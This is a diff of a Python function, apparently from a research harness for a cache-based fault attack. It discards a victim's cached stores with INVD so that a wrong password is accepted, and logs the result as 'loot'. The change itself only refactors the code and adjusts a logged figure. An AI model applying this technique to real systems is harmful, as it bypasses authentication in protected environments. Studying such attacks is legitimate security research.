@@ -70,11 +70,12 @@ def dropped_store(hands: Hands, facts: Facts, log: Log) -> bytes:
     log.step(f"HWCR bit 4 is cleared, and WBINVD writes {hands.caches.write_back()} pages back")
     hands.client.put(b"I do not know it")
     hands.victim.until(CPUID)
-    dropped = hands.dropper.invd()
+    dropper = hands.dropper
+    dropped = dropper.invd()
     log.step(f"the victim has stored its result and leaves for CPUID: INVD, {dropped} pages leave the caches")
     hands.victim.skip(2)
     hands.victim.until(HLT)
     loot = hands.client.answer(32)
     log.step("the victim's answer to a wrong password", loot)
-    log.figure("stores lost for one forged decision", 1)
+    log.figure("lines of the victim's that INVD lost", dropper.lost, published="no figure in the stored text")
     return loot
